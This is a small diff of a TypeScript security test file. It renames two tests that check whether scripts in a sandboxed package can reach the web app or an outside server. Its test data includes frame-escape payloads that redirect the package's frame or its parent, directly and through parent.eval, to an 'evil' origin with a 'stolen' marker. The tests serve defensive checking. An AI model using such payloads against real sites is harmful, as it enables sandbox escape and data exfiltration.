@@ -110,7 +110,7 @@ const resultsOf = (frame: Frame) => frame.evaluate<Record<string, string>>('wind
 /** Time in milliseconds that a browser needs to finish its background work, such as delayed requests. */
 const settleMs = 1_000;
 
-test('a package reaches neither the web app nor another server', async () => {
+test('the scripts of a package can reach neither the web app nor another server', async () => {
   const attack = () => `
     window.results = {};
     const evil = ${JSON.stringify(evil.origin)}, app = ${JSON.stringify(app.origin)}, content = location.origin;
@@ -203,7 +203,7 @@ test.each([
   ['its own frame', () => `location.href = '${evil.origin}/own?stolen'`],
   ['the frame of the player', () => `parent.location.href = '${evil.origin}/parent?stolen'`],
   [
-    'the frame of the player by a script there',
+    'the frame of the player by a script that it runs in this frame',
     () => `parent.eval("location.href = '${evil.origin}/script?stolen'")`,
   ],
   [
